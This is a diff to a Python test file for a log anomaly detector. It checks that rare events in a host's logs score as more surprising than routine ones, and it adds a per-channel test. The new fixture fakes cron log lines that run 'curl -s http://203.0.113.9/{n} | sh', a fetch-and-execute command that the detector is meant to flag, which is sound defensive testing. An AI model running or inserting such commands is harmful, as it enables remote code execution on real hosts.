@@ -7,12 +7,11 @@ from pathlib import Path
 import numpy as np
 import pytest
 
+from loglm.context.usual import LEAST_PAST, MOST_MOVED
 from loglm.errors import InputError
 from loglm.evaluation.attack_benchmark import select_windows
 from loglm.evaluation.attack_data import Recording
 from loglm.evaluation.window_surprise import (
-    LEAST_PAST,
-    MOST_MOVED,
     beyond_usual,
     load_bits,
     past_windows,
@@ -27,7 +26,7 @@ _LINES = [
     for hour in range(4)
     for minute in range(0, 60, 2)
 ]
-_ODD = [f"Nov 28 04:00:0{n} web1 sshd[{n}]: Accepted password for root from 203.0.113.9 port 4{n}" for n in range(9)]
+_ODD = [f"Nov 28 04:00:0{n} web1 CRON[{n}]: (root) CMD (curl -s http://203.0.113.9/{n} | sh)" for n in range(8)]
 
 
 def _recording(folder: Path, lines: list[str]) -> WindowTable:
@@ -35,12 +34,12 @@ def _recording(folder: Path, lines: list[str]) -> WindowTable:
     return build_window_table(folder, [Recording(_LOG, "one", "one", "attack", {"T1110"})])
 
 
-def _table(windows: int, *, entity: str = "host:a", recording: int = 0) -> WindowTable:
+def _table(windows: int, *, entity: str = "host:a", channel: str = "windows/sysmon", recording: int = 0) -> WindowTable:
     table = WindowTable([Recording(str(i), "one", "one", "attack", {"T1003"}) for i in range(recording + 1)], ["x"])
     for _ in range(windows):
         table.rows.append(np.asarray([0], np.int32))
         table.recording.append(recording)
-        table.channel.append("windows/sysmon")
+        table.channel.append(channel)
         table.entity.append(entity)
         table.start.append(0.0)
         table.rules.append(())
@@ -51,7 +50,7 @@ def _table(windows: int, *, entity: str = "host:a", recording: int = 0) -> Windo
 def test_what_an_entity_never_did_is_more_surprising_than_what_it_always_does(tmp_path: Path) -> None:
     table = _recording(tmp_path, [*_LINES, *_ODD])
     bits = window_surprise(tmp_path, table, None)
-    odd = [w for w, row in enumerate(table.rows) if any("sshd" in table.texts[i] for i in row)]
+    odd = [w for w, row in enumerate(table.rows) if any("curl" in table.texts[i] for i in row)]
     usual = [w for w in range(LEAST_PAST, len(table)) if w not in odd]
     assert len(odd) == 1
     assert bits[odd[0]] > 2 * bits[usual].max()
@@ -98,8 +97,8 @@ def test_without_a_past_nothing_is_beyond_the_usual() -> None:
     assert moved[LEAST_PAST] < 0
 
 
-@pytest.mark.parametrize("other", [{"recording": 1}, {"entity": "host:b"}])
-def test_other_recordings_and_entities_are_no_past(other: dict[str, object]) -> None:
+@pytest.mark.parametrize("other", [{"recording": 1}, {"entity": "host:b"}, {"channel": "windows/system"}])
+def test_other_recordings_entities_and_channels_are_no_past(other: dict[str, object]) -> None:
     table, added = _table(10), _table(10, **other)  # type: ignore[arg-type]
     table.recordings = max(table.recordings, added.recordings, key=len)
     for name in ("rows", "recording", "channel", "entity", "start", "rules"):
